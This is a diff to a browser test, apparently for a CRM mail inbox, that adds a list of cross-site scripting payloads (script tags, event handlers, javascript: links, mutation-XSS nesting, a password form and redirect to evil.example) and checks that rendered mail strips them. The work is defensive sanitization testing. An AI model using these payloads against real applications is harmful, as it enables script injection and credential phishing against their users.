@@ -7,6 +7,18 @@ import { signatureHeaders } from "../../../server/src/platform/crypto/webhook-si
 import { expectAccessible, inBrowser, PHONE, row, settled } from "../support.ts";
 
 const SECRET = `whsec_${Buffer.alloc(24, 7).toString("base64")}`;
+/** What a mail might bring to run something in the browser of whoever reads it. */
+const XSS = [
+  "<script>window.hit=3</script>",
+  `<p onclick="window.hit=4" style="position:fixed;inset:0">Over all</p>`,
+  "<svg onload=window.hit=5><script>window.hit=6</script></svg>",
+  `<iframe srcdoc="<script>parent.hit=7</script>"></iframe>`,
+  `<a href="java\nscript:window.hit=8">a</a><a href="data:text/html,<script>opener.hit=9</script>">b</a>`,
+  `<form action="https://evil.example"><input name="password"></form><meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  "<math><mtext><table><mglyph><style><img src=x onerror=window.hit=10></style></mglyph></table></mtext></math>",
+  "<template><img src=x onerror=window.hit=11></template><object data='javascript:window.hit=12'></object>",
+  "<style>*{display:none}</style><link rel=stylesheet href='https://evil.example/x.css'>",
+];
 /** The smallest image. */
 const DOT = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
 
@@ -292,12 +304,14 @@ inBrowser(
       }).listen(0, "127.0.0.1");
       await once(sender, "listening");
       const remote = `http://127.0.0.1:${(sender.address() as AddressInfo).port}/dot.gif`;
-      const html = `<h1>Offer</h1><p onclick="window.hit=1">See <a href="https://shop.example/x">the shop</a><script>window.hit=2</script>
-        <a href="javascript:window.hit=3">here</a></p><table><tr><td>Blue</td><td>Red</td></tr></table><img src="${remote}" alt="A dot" onerror="window.hit=4">`;
+      const html = `<h1>Offer</h1><p>See <a href="https://shop.example/x">the shop</a> <a href="javascript:window.hit=1">here</a></p>
+        <table><tr><td>Blue</td><td>Red</td></tr></table><img src="${remote}" alt="A dot" onerror="window.hit=2">${XSS.join("")}`;
       const id = await mailed(account, html);
       const page = await portal.open(`/crm/${account}/inbox/${id}`);
       const open = thread(page, "Ulla Mail");
       await open.getByRole("link", { name: "the shop" }).waitFor();
+      const dangerous = "script, style, svg, math, iframe, object, embed, form, input, template, link, meta, [onclick], [style]";
+      expect(await open.locator("[data-mail]").locator(dangerous).count()).toBe(0);
       expect(await open.getByRole("link", { name: "here" }).count()).toBe(0);
       expect(await open.getByRole("heading", { name: "Offer" }).count()).toBe(0);
       expect(asked).toEqual([]);
